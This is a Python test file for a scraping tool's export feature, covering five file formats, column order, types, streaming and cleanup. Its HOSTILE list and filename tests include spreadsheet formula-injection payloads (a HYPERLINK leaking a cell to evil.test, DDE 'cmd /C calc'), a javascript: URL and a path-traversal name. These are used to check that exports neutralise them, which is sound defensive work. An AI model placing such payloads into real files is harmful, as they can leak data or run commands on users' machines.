"""Exports read back with the programs that people use: every format, hostile content, order, partial files, memory."""

import csv as standard_csv
import io
import json
import shutil
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa
from openpyxl.utils.escape import unescape
from sqlalchemy import event

from core import rows
from core.db import Database
from core.errors import InvalidInput, NotFound
from core.export import FORMATS, ExportFile, csv, export, xlsx
from core.failures import EXPLANATIONS, FailureKind
from core.i18n import speaking
from core.models import Job, JobLine, JobStep, Report, ReportText
from core.queries import export as reads
from core.settings import Settings

NOW = datetime(2026, 1, 31, 12, 30, 15, tzinfo=UTC)
OURS = [column.name for column in rows.COLUMNS]
Values = dict[str, Any]

REPORT: Values = {
    "target": "example.com",
    "host": "example.com",
    "requested_url": "https://example.com/",
    "final_url": "https://www.example.com/",
    "redirect_chain": [{"url": "https://example.com/", "status": 301}],
    "http_status": 200,
    "https": True,
    "ttfb_seconds": 0.25,
    "bytes": 1234,
    "fetched_at": NOW,
    "attempts": 1,
    "extractor_version": "1",
    "title": "Example Domain",
    "published_on": date(2025, 12, 24),
    "h1s": ["One", "Two"],
    "jsonld_types": [],
    "feeds": [],
    "word_count": 230,
    "content_hash": "0" * 64,
    "categories": [],
    "tags": [],
    "internal_links": [],
    "external_links": [],
    "external_hosts": [],
    "emails": ["a@example.com"],
    "phones": ["+34911234567"],
    "social_profiles": [],
    "flags": [{"flag": "thin_text", "evidence": "23 words"}],
    "answers": {"price": "12 €"},
}


@pytest.fixture(scope="module")
def migrated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data directory with an empty database, copied for every test."""
    folder = tmp_path_factory.mktemp("migrated")
    database = Database.of(Settings.load(data_dir=folder))
    database.prepare(False)
    database.close()
    return folder


@pytest.fixture
def database(tmp_path: Path, migrated: Path) -> Iterator[Database]:
    shutil.copytree(migrated, tmp_path / "data")
    database = Database.of(Settings.load(data_dir=tmp_path / "data"))
    yield database
    database.close()


@pytest.fixture
def each_database(database_url: str, tmp_path: Path) -> Iterator[Database]:
    """A database of each kind in turn."""
    database = Database(database_url, tmp_path)
    yield database
    database.close()


@pytest.fixture
def temporary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where temporary files go during the test."""
    folder = tmp_path / "temporary"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def new_job(database: Database, *, total: int, name: str = "Cartera Q4", running: bool = False) -> int:
    ended: Values = {"status": "completed", "completed_steps": total, "completed_at": NOW}
    going_on: Values = {"status": "running", "completed_steps": total - 1, "started_at": NOW, "queued_at": NOW}
    values = {
        "job_type": "batch_scraping",
        "name": name,
        "description": "",
        "priority": 0,
        "config": {},
        "total_steps": total,
        "failed_steps": 0,
        "cancelled_steps": 0,
        "created_by": "ana",
        "origin": "ui",
        "created_at": NOW,
    }
    return inserted(database, Job, [values | (going_on if running else ended)])[0]


def inserted(database: Database, table: type[Any], values: list[Values]) -> list[int]:
    with database.writing() as session:
        ids = session.execute(sa.insert(table).returning(sa.inspect(table).primary_key[0]), values).scalars().all()
    return sorted(ids)


def new_steps(database: Database, job_id: int, count: int, **values: Any) -> list[int]:
    step = {"status": "completed", "completed_at": NOW, "attempts": 1, "next_attempt_at": NOW, "fence": 1} | values
    steps = [
        {"job_id": job_id, "step_number": n, "name": "Scraping", "target": f"s{n}.test", "host": f"s{n}.test"} | step
        for n in range(1, count + 1)
    ]
    return inserted(database, JobStep, steps)


def new_lines(database: Database, job_id: int, lines: list[Values]) -> None:
    line: Values = {"job_id": job_id, "verdict": "ok", "reason": None, "step_id": None, "extra": None, "input": "x"}
    inserted(database, JobLine, [line | {"line": n} | values for n, values in enumerate(lines, 1)])


def new_report(database: Database, job_id: int, step_id: int, text: str = "Some words", **values: Any) -> int:
    (report_id,) = inserted(database, Report, [REPORT | {"job_id": job_id, "step_id": step_id} | values])
    inserted(database, ReportText, [{"report_id": report_id, "text": text}])
    return report_id


def job_with_report(database: Database, text: str = "Some words", extra: Values | None = None, **report: Any) -> int:
    job_id = new_job(database, total=1)
    (step_id,) = new_steps(database, job_id, 1)
    new_lines(database, job_id, [{"step_id": step_id, "extra": extra}])
    new_report(database, job_id, step_id, text, **report)
    return job_id


def mixed_job(database: Database) -> int:
    """Five lines: a good one, a rejected one, one that failed, a duplicate of the first, one corrected and pending."""
    job_id = new_job(database, total=3, running=True)
    done, failed, pending = new_steps(database, job_id, 3)
    with database.writing() as session:
        session.execute(
            sa.update(JobStep)
            .where(sa.column("id") == failed)
            .values(status="failed", error_kind="timeout", error_message="Timed out after 30 s", attempts=3)
        )
        session.execute(
            sa.update(JobStep).where(sa.column("id") == pending).values(status="pending", completed_at=None, attempts=0)
        )
    lines: list[Values] = [
        {"input": "s1.test", "step_id": done, "extra": {"client": "North", "title": "theirs"}},
        {"input": "exmaple", "verdict": "rejected", "reason": "no_dot", "extra": {"client": "South"}},
        {"input": "s2.test", "step_id": failed},
        {"input": "S1.test", "verdict": "duplicate", "reason": "duplicate:1", "step_id": done, "extra": {"zone": "4"}},
        {"input": "S3.test", "verdict": "corrected", "reason": "case", "step_id": pending},
    ]
    new_lines(database, job_id, lines)
    new_report(database, job_id, done, target="s1.test", host="s1.test")
    return job_id


def content_of(file: ExportFile) -> bytes:
    with file:
        return b"".join(file.chunks)


def table_of(data: bytes, separator: str = ",") -> list[dict[str, str]]:
    return list(standard_csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator))


def from_csv(data: bytes) -> list[Values]:
    return [{name: value or None for name, value in row.items()} for row in table_of(data)]


def from_xlsx(data: bytes) -> list[Values]:
    header, *found = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in found]


def from_json(data: bytes) -> list[Values]:
    found: list[Values] = json.loads(data)["rows"]
    return found


def from_ndjson(data: bytes) -> list[Values]:
    return [json.loads(line) for line in data.decode().split("\n") if line]


def from_parquet(data: bytes) -> list[Values]:
    return pq.read_table(io.BytesIO(data)).to_pylist()  # type: ignore[no-untyped-call,no-any-return]


READERS: dict[str, Callable[[bytes], list[Values]]] = {
    "csv": from_csv,
    "xlsx": from_xlsx,
    "json": from_json,
    "ndjson": from_ndjson,
    "parquet": from_parquet,
}
every_format = pytest.mark.parametrize("format", sorted(FORMATS))


def read(database: Database, job_id: int, format: str, **options: Any) -> list[Values]:
    return READERS[format](content_of(export(database, job_id, format=format, **options)))


@every_format
def test_every_line_as_it_was_given_in_order(database: Database, format: str):
    found = read(database, mixed_job(database), format)
    assert [row["input"] for row in found] == ["s1.test", "exmaple", "s2.test", "S1.test", "S3.test"]
    assert [row["verdict"] for row in found] == ["ok", "rejected", "ok", "duplicate", "corrected"]
    assert [row["status"] for row in found] == ["completed", None, "failed", "completed", "pending"]
    assert [row["reason_sentence"] for row in found] == [
        None,
        found[1]["reason_sentence"],
        None,
        "duplicate of line 1",
        "corrected: case",
    ]
    assert "no dot" in found[1]["reason_sentence"]
    assert [str(row["duplicate_of"] or "") for row in found] == ["", "", "", "1", ""]
    assert [row["title"] for row in found] == ["Example Domain", None, None, "Example Domain", None]
    assert [row["text"] for row in found] == ["Some words", None, None, "Some words", None]
    assert (found[2]["error_kind"], found[2]["error_message"]) == ("timeout", "Timed out after 30 s")
    assert found[2]["error_sentence"] == EXPLANATIONS[FailureKind.TIMEOUT].sentence


@every_format
def test_one_row_a_step_with_the_line_it_came_from(database: Database, format: str):
    found = read(database, mixed_job(database), format, rows="steps")
    assert [int(row["step_number"]) for row in found] == [1, 2, 3]
    assert [int(row["line"]) for row in found] == [1, 3, 5]
    assert [row["client"] for row in found] == ["North", None, None]


@every_format
def test_uploaded_columns_of_all_lines_come_first(database: Database, format: str):
    found = read(database, mixed_job(database), format)
    assert list(found[0]) == ["client", "title_uploaded", "zone", *OURS]
    assert [(row["client"], row["title_uploaded"], row["zone"]) for row in found] == [
        ("North", "theirs", None),
        ("South", None, None),
        (None, None, None),
        (None, None, "4"),
        (None, None, None),
    ]


@every_format
def test_a_job_without_lines_gives_the_columns_alone(database: Database, format: str):
    data = content_of(export(database, new_job(database, total=0), format=format))
    assert READERS[format](data) == []
    if format == "csv":
        assert data.decode("utf-8-sig").strip().split(",") == OURS
    if format == "xlsx":
        assert [cell.value for cell in openpyxl.load_workbook(io.BytesIO(data)).worksheets[0][1]] == OURS
    if format == "parquet":
        assert pq.read_schema(io.BytesIO(data)).names == OURS


@every_format
def test_values_keep_their_types(database: Database, format: str):
    (row,) = read(database, job_with_report(database), format)
    is_text = format == "csv"
    assert row["http_status"] == ("200" if is_text else 200)
    assert row["ttfb_seconds"] == ("0.25" if is_text else 0.25)
    assert row["https"] == ("true" if is_text else True)
    moment = "2026-01-31T12:30:15Z"
    assert row["fetched_at"] == {"xlsx": NOW.replace(tzinfo=None), "parquet": NOW}.get(format, moment)
    assert row["published_on"] == {"xlsx": datetime(2025, 12, 24), "parquet": date(2025, 12, 24)}.get(
        format, "2025-12-24"
    )
    assert row["h1s"] == ("One\nTwo" if format in {"csv", "xlsx"} else ["One", "Two"])
    assert row["phones"] == ("+34911234567" if format in {"csv", "xlsx"} else ["+34911234567"])
    flags = [{"flag": "thin_text", "evidence": "23 words"}]
    assert row["flags"] == ("thin_text: 23 words" if format in {"csv", "xlsx"} else flags)
    chain = [{"url": "https://example.com/", "status": 301}]
    assert row["redirect_chain"] == ("301 https://example.com/" if format in {"csv", "xlsx"} else chain)
    answers = {"price": "12 €"}
    assert row["answers"] == (answers if format in {"json", "ndjson"} else json.dumps(answers, ensure_ascii=False))


def test_both_databases_give_the_same_rows(each_database: Database):
    job_id = mixed_job(each_database)
    by_line = read(each_database, job_id, "ndjson")
    assert [row["input"] for row in by_line] == ["s1.test", "exmaple", "s2.test", "S1.test", "S3.test"]
    assert [row["status"] for row in by_line] == ["completed", None, "failed", "completed", "pending"]
    assert [row["duplicate_of"] for row in by_line] == [None, None, None, 1, None]
    assert by_line[0]["fetched_at"] == "2026-01-31T12:30:15Z"
    assert by_line[0]["answers"] == {"price": "12 €"}
    assert set(by_line[0]) == {"client", "title_uploaded", "zone", *OURS}
    by_step = read(each_database, job_id, "ndjson", rows="steps")
    assert [(row["step_number"], row["line"], row["client"]) for row in by_step] == [
        (1, 1, "North"),
        (2, 3, None),
        (3, 5, None),
    ]


HOSTILE = [
    '=HYPERLINK("https://evil.test/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    'a "quoted", line;\nbreak\twith tab',
    "<r><t>raw</t></r>",
    "<r>&broken</r>",
    "_x0041_ and ]]> & <b>",
    "emoji 👩‍👩‍👧 ﷽ \u202e rtl",
    "nul \x00 and surrogate \ud800 and bell \x07",
    "  spaces  ",
    "https://example.com/looks-like-a-link",
    "123",
    "{=1+1}",
]


def stored(text: str) -> str:
    return text.replace("\x00", "\ufffd").replace("\ud800", "\ufffd" * 3)


def shown(text: str, format: str) -> str:
    """What a reader gets for the stored text."""
    if format == "csv":
        return f"'{text}" if text in HOSTILE[:5] else text
    if format == "xlsx":
        text = text.replace("\x07", "")
        return f" {text}" if text.startswith("<r>") else text
    return text


@every_format
def test_hostile_content_comes_back_as_text(database: Database, format: str):
    job_id = new_job(database, total=len(HOSTILE))
    steps = new_steps(database, job_id, len(HOSTILE))
    pairs = list(zip(steps, HOSTILE, strict=True))
    new_lines(database, job_id, [{"step_id": step, "input": text, "extra": {text: text}} for step, text in pairs])
    for step, text in pairs:
        new_report(database, job_id, step, text, title=text, tags=[text])
    found = read(database, job_id, format)
    expected = [shown(stored(text), format) for text in HOSTILE]
    if format == "xlsx":
        # Excel reads _x005F_ as an underscore (ECMA-376, ST_Xstring); openpyxl leaves that to its callers
        found = [{unescape(name): unescape_cell(value) for name, value in row.items()} for row in found]
    assert list(found[0])[: len(HOSTILE)] == expected
    for place, row in enumerate(found):
        values = [row[name] for name in (expected[place], "input", "title", "text")]
        assert values == [expected[place]] * 4
        assert row["tags"] == (expected[place] if format in {"csv", "xlsx"} else [expected[place]])


def unescape_cell(value: Any) -> Any:
    return unescape(value) if isinstance(value, str) else value


@pytest.mark.parametrize(
    "text", ["=1", "+1+1", "-x", "@a", "\tx", "\rx", "\nx", " =1", "\ufeff=1", "＋1", "－1", "＠a", "-1;2", "+34 911"]
)
def test_csv_neutralises_what_may_be_a_formula(text: str):
    assert csv.neutral(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-5", "+3.14", "-1,5", "1e5", "-2E-7", "+34911234567", "a=b", "1-2", "", "x@y.test"])
def test_csv_leaves_numbers_telephones_and_other_text(text: str):
    assert csv.neutral(text) == text


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_csv_is_for_excel_and_rfc_4180(database: Database, separator: str):
    job_id = job_with_report(database, title='a,b;c\td"e"\nf')
    data = content_of(export(database, job_id, format="csv", separator=separator))
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\xef\xbb\xbf") == 1
    assert data.endswith(b"\r\n")
    (row,) = table_of(data, separator)
    assert row["title"] == 'a,b;c\td"e"\nf'
    assert len(pd.read_csv(io.BytesIO(data), sep=separator)) == 1


def test_a_workbook_is_ready_to_work_with(database: Database):
    job_id = job_with_report(
        database, final_url="http://example.com/a b?x=<1>#part", canonical_url="javascript:alert(1)"
    )
    book = openpyxl.load_workbook(io.BytesIO(content_of(export(database, job_id, format="xlsx"))))
    sheet = book["lines"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(2, len(OURS)).coordinate}"
    cells = {name: sheet.cell(2, place) for place, name in enumerate(OURS, 1)}
    assert cells["requested_url"].hyperlink.target == "https://example.com/"
    assert cells["final_url"].hyperlink.target.startswith("http://example.com/a%20b")
    assert cells["final_url"].value == "http://example.com/a b?x=<1>#part"
    assert cells["canonical_url"].hyperlink is None
    assert cells["canonical_url"].value == "javascript:alert(1)"
    assert cells["input"].hyperlink is None
    assert cells["fetched_at"].is_date
    assert not [cell for cell in sheet[2] if cell.data_type == "f"]
    assert book.properties.title == "Cartera Q4"
    assert book["About"]["B1"].value == "Cartera Q4"


def test_a_workbook_keeps_within_the_limits_of_excel(database: Database, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(xlsx, "MOST_LINKS", 2)
    job_id = new_job(database, total=3)
    steps = new_steps(database, job_id, 3)
    new_lines(database, job_id, [{"step_id": step} for step in steps])
    too_long = "https://example.com/" + "x" * 3_000
    for step, url in zip(steps, [too_long, "https://a.test/", "https://b.test/"], strict=True):
        new_report(database, job_id, step, "👩" * 20_000, final_url=url, published_on=date(1492, 10, 12))
    sheet = openpyxl.load_workbook(io.BytesIO(content_of(export(database, job_id, format="xlsx"))))["lines"]
    place = {name: place for place, name in enumerate(OURS, 1)}
    links = [sheet.cell(row, place["final_url"]).hyperlink for row in (2, 3, 4)]
    assert [link and link.target for link in links] == [None, "https://a.test/", "https://b.test/"]
    assert sheet.cell(2, place["requested_url"]).hyperlink is None
    assert sheet.cell(2, place["final_url"]).value == too_long
    assert sheet.cell(2, place["published_on"]).value == "1492-10-12"
    text = sheet.cell(2, place["text"]).value
    assert len(text.encode("utf-16-le")) // 2 in {32_766, 32_767}
    assert text.endswith("[cut: a cell ends at 32767 characters]")


def test_too_many_rows_for_a_workbook_are_told_before_anything(database: Database, monkeypatch: pytest.MonkeyPatch):
    job_id = mixed_job(database)
    monkeypatch.setattr(xlsx, "MOST_ROWS", 5)
    with pytest.raises(InvalidInput, match="4 rows"):
        export(database, job_id, format="xlsx")
    assert len(read(database, job_id, "csv")) == 5


@every_format
def test_an_export_of_a_running_job_says_partial(database: Database, format: str):
    file = export(database, mixed_job(database), format=format, now=NOW)
    data = content_of(file)
    assert file.partial
    assert file.filename == f"Cartera-Q4-1-2026-01-31-partial.{format}"
    assert file.media_type == FORMATS[format].media_type
    if format == "json":
        assert json.loads(data)["partial"] is True
        assert (json.loads(data)["finished_steps"], json.loads(data)["total_steps"]) == (2, 3)
    if format == "xlsx":
        about = openpyxl.load_workbook(io.BytesIO(data))["About"]
        assert "partial: 2 of 3" in [cell.value for cell in about["B"]]
    if format == "parquet":
        assert json.loads(pq.read_schema(io.BytesIO(data)).metadata[b"lote"])["partial"] is True


@every_format
def test_an_export_of_a_finished_job_is_complete(database: Database, format: str):
    file = export(database, job_with_report(database), format=format, rows="steps", now=NOW)
    data = content_of(file)
    assert not file.partial
    assert file.filename == f"Cartera-Q4-1-steps-2026-01-31.{format}"
    if format == "json":
        assert json.loads(data)["partial"] is False
        assert json.loads(data)["job"]["name"] == "Cartera Q4"
        assert json.loads(data)["job"]["created_at"] == "2026-01-31T12:30:15Z"


@pytest.mark.parametrize(
    ("name", "filename"),
    [
        ("../../etc/passwd", "etc-passwd-1-2026-01-31.csv"),
        ('a\r\nX: "b"\x00|c', "a-X-b-c-1-2026-01-31.csv"),
        ("Año de ñandúes", "Año-de-ñandúes-1-2026-01-31.csv"),
        ("\u202egpj.exe", "gpj.exe-1-2026-01-31.csv"),
        ("...", "1-2026-01-31.csv"),
        ("", "1-2026-01-31.csv"),
        ("é" * 300, "é" * 75 + "-1-2026-01-31.csv"),
    ],
)
def test_the_name_of_the_file_is_safe(database: Database, name: str, filename: str):
    with export(database, new_job(database, total=0, name=name), format="csv", now=NOW) as file:
        assert file.filename == filename


@pytest.mark.parametrize("format", ["csv", "xlsx", "json"])
def test_sentences_speak_the_language_asked_for_and_names_do_not(database: Database, format: str):
    job_id = mixed_job(database)
    found = read(database, job_id, format, language="es")
    with speaking("es"):
        expected = EXPLANATIONS[FailureKind.TIMEOUT].translated().sentence
    assert found[2]["error_sentence"] == expected != EXPLANATIONS[FailureKind.TIMEOUT].sentence
    assert list(found[0])[3:] == OURS


def test_what_is_unknown_is_refused_at_once(database: Database):
    job_id = new_job(database, total=0)
    with pytest.raises(NotFound):
        export(database, job_id + 1, format="csv")
    wrong: list[tuple[str, Values]] = [
        ("format", {"format": "pdf"}),
        ("rows", {"format": "csv", "rows": "columns"}),
        ("separator", {"format": "csv", "separator": "||"}),
    ]
    for field, options in wrong:
        with pytest.raises(InvalidInput) as refused:
            export(database, job_id, **options)
        assert [error["field"] for error in refused.value.errors] == [field]
    assert database.engine.pool.checkedout() == 0  # type: ignore[attr-defined]


def large_job(database: Database, count: int) -> int:
    job_id = new_job(database, total=count)
    steps = new_steps(database, job_id, count)
    new_lines(database, job_id, [{"step_id": step} for step in steps])
    report = REPORT | {"job_id": job_id}
    reports = inserted(database, Report, [report | {"step_id": step} for step in steps[::4]])
    inserted(database, ReportText, [{"report_id": report_id, "text": "word " * 400} for report_id in reports])
    return job_id


class Reading:
    """Counts the statements that read lines."""

    def __init__(self, database: Database) -> None:
        self.pages = 0
        event.listen(database.engine, "before_cursor_execute", self._seen)

    def _seen(self, _connection: Any, _cursor: Any, statement: str, *_more: Any) -> None:
        self.pages += "LEFT OUTER JOIN reports" in statement


def test_twelve_thousand_rows_stream_in_chunks(database: Database):
    job_id = large_job(database, 12_000)
    reading = Reading(database)
    sizes = []
    with export(database, job_id, format="ndjson") as file:
        for pages_read, chunk in enumerate(file.chunks, 1):
            assert reading.pages == pages_read
            sizes.append(chunk.count(b"\n"))
    assert sizes == [5_000, 5_000, 2_000]
    with export(database, job_id, format="csv") as file:
        assert next(file.chunks).startswith(b"\xef\xbb\xbfline,")


def test_parquet_has_a_row_group_a_chunk(database: Database, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(reads, "CHUNK_ROWS", 100)
    data = content_of(export(database, large_job(database, 250), format="parquet"))
    metadata = pq.read_metadata(io.BytesIO(data))
    assert [metadata.row_group(n).num_rows for n in range(metadata.num_row_groups)] == [100, 100, 50]
    assert [row["line"] for row in from_parquet(data)] == list(range(1, 251))


def test_long_texts_end_a_chunk_early(each_database: Database, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(reads, "CHUNK_CHARACTERS", 100_000)
    job_id = large_job(each_database, 500)
    with export(each_database, job_id, format="ndjson") as file:
        chunks = list(file.chunks)
    assert len(chunks) > 3
    assert [json.loads(line)["line"] for line in b"".join(chunks).splitlines()] == list(range(1, 501))


def test_columns_keep_their_types_in_a_chunk_of_nulls(database: Database, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(reads, "CHUNK_ROWS", 2)
    job_id = mixed_job(database)
    file = pq.ParquetFile(io.BytesIO(content_of(export(database, job_id, format="parquet"))))
    assert file.num_row_groups == 3
    schema = file.schema_arrow
    assert schema.field("fetched_at").type == pa.timestamp("us", tz="UTC")
    assert schema.field("http_status").type == pa.int64()
    assert schema.field("h1s").type == pa.list_(pa.string())
    empty = pq.read_schema(io.BytesIO(content_of(export(database, new_job(database, total=0), format="parquet"))))
    assert [schema.field(name).type for name in OURS] == [empty.field(name).type for name in OURS]


def test_an_export_shows_one_moment(each_database: Database, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(reads, "CHUNK_ROWS", 1)
    job_id = mixed_job(each_database)
    with export(each_database, job_id, format="ndjson") as file:
        data = next(file.chunks)
        with each_database.writing() as session:
            session.execute(sa.update(JobLine).values(input="changed"))
            session.execute(sa.delete(JobLine).where(sa.column("verdict") == "rejected"))
        data += b"".join(file.chunks)
    assert [row["input"] for row in from_ndjson(data)] == ["s1.test", "exmaple", "s2.test", "S1.test", "S3.test"]


@every_format
def test_nothing_is_left_when_the_reader_goes_away(
    database: Database, temporary: Path, monkeypatch: pytest.MonkeyPatch, format: str
):
    monkeypatch.setattr(reads, "CHUNK_ROWS", 1)
    job_id = mixed_job(database)
    file = export(database, job_id, format=format)
    next(file.chunks)
    assert len(list(temporary.iterdir())) == (1 if format in {"xlsx", "parquet"} else 0)
    file.close()
    assert list(temporary.iterdir()) == []

    export(database, job_id, format=format).close()
    dropped = export(database, job_id, format=format)
    next(dropped.chunks)
    del dropped
    assert list(temporary.iterdir()) == []
    assert database.engine.pool.checkedout() == 0  # type: ignore[attr-defined]


@pytest.mark.parametrize("format", ["xlsx", "parquet"])
def test_nothing_is_left_after_an_error(
    database: Database, temporary: Path, monkeypatch: pytest.MonkeyPatch, format: str
):
    monkeypatch.setattr(reads, "CHUNK_ROWS", 1)
    job_id = job_with_report(database)
    new_lines(database, job_id, [{}])
    file = export(database, job_id, format=format)
    next(file.chunks)
    with database.engine.connect() as connection:
        connection.exec_driver_sql("PRAGMA wal_checkpoint")

    def broken(*_arguments: Any) -> None:
        raise OSError("disk full")

    event.listen(database.engine, "before_cursor_execute", broken)
    with pytest.raises(OSError, match="disk full"):
        next(file.chunks)
    event.remove(database.engine, "before_cursor_execute", broken)
    assert list(temporary.iterdir()) == []
    assert database.engine.pool.checkedout() == 0  # type: ignore[attr-defined]


def test_a_workbook_is_sound_xml(database: Database):
    data = content_of(export(database, job_with_report(database, "\x01\x0b\ufffe ok"), format="xlsx"))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        assert b"_x0001_" not in archive.read("xl/worksheets/sheet1.xml")
